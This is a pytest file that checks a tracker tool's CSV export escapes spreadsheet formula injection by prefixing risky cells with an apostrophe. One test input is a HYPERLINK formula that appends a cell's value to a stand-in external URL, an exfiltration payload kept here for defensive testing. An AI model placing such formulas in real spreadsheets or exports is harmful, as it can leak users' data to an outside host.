"""Lists as CSV: what a spreadsheet makes of their cells."""

import csv
import io
from typing import Any

import pytest

from tracker.cli.rows import Format, show
from tracker.exchange import csv_tables
from tracker.exchange.columns import Holds


def listed(capsys: pytest.CaptureFixture[str], value: Any) -> str:
    assert show([{"id": "a1", "value": value}], (), Format.csv) == 1
    ((_, cell),) = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    return cell


@pytest.mark.parametrize("text", ["=SUM(A1:A9)", '=HYPERLINK("https://x.example/?"&A1)', "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "'=1"])
def test_no_cell_of_a_list_begins_as_a_formula(capsys: pytest.CaptureFixture[str], text: str) -> None:
    assert listed(capsys, text) == f"'{text}" == csv_tables.cell(text, Holds.text)


@pytest.mark.parametrize(
    ("value", "cell"), [(-12, "-12"), (-0.5, "-0.5"), (12, "12"), ("12 - 14", "12 - 14"), (None, ""), (["=1"], '["=1"]')]
)
def test_numbers_and_other_words_are_as_they_are(capsys: pytest.CaptureFixture[str], value: Any, cell: str) -> None:
    assert listed(capsys, value) == cell
